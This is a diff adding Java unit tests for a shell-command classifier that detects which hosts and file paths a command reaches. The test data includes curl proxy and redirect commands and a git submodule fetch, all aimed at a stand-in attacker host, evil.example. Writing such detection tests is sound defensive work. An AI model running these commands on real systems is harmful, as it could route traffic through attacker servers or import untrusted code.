@@ -16,6 +16,7 @@ import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
 
 class ShellClassifierTest {
@@ -100,6 +101,37 @@ class ShellClassifierTest {
         .contains(
             Target.url("https://User@API.Example.com:8443/v1?q=1"),
             Target.domain("api.example.com"));
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "curl -x evil.example:8080 https://github.com|evil.example",
+        "curl --proxy http://u:p@Evil.example:3128 https://github.com|evil.example",
+        "curl --connect-to github.com:443:evil.example:443 https://github.com|evil.example",
+        "curl --resolve github.com:443:192.0.2.7 https://github.com|192.0.2.7",
+        "curl --preproxy socks5://evil.example https://github.com|evil.example",
+        "curl --socks5-hostname evil.example:1080 https://github.com|evil.example",
+        "getent hosts data.evil.example|data.evil.example",
+        "https_proxy=http://evil.example:8080 curl https://github.com|evil.example",
+        "git -c http.proxy=http://evil.example:3128 fetch origin|evil.example",
+        "git submodule add https://evil.example/x.git vendor/x|evil.example"
+      })
+  void classify_otherHost_isDomainTarget(String command, String host) {
+    Classification c = SHELL.classify(command, CTX);
+    assertThat(c.targets()).as(c.toString()).contains(Target.domain(host));
+  }
+
+  @Test
+  void classify_gitPathOptions_recordPathTargets() {
+    assertThat(SHELL.classify("git mv src/a .mcp.json", CTX).targets())
+        .contains(
+            Target.path("/home/dev/project/src/a"), Target.path("/home/dev/project/.mcp.json"));
+    assertThat(SHELL.classify("git config -f ~/.gitconfig user.name x", CTX).targets())
+        .contains(Target.path("/home/dev/.gitconfig"));
+    assertThat(SHELL.classify("git commit -F msg.txt", CTX).targets())
+        .contains(Target.path("/home/dev/project/msg.txt"));
   }
 
   @Test
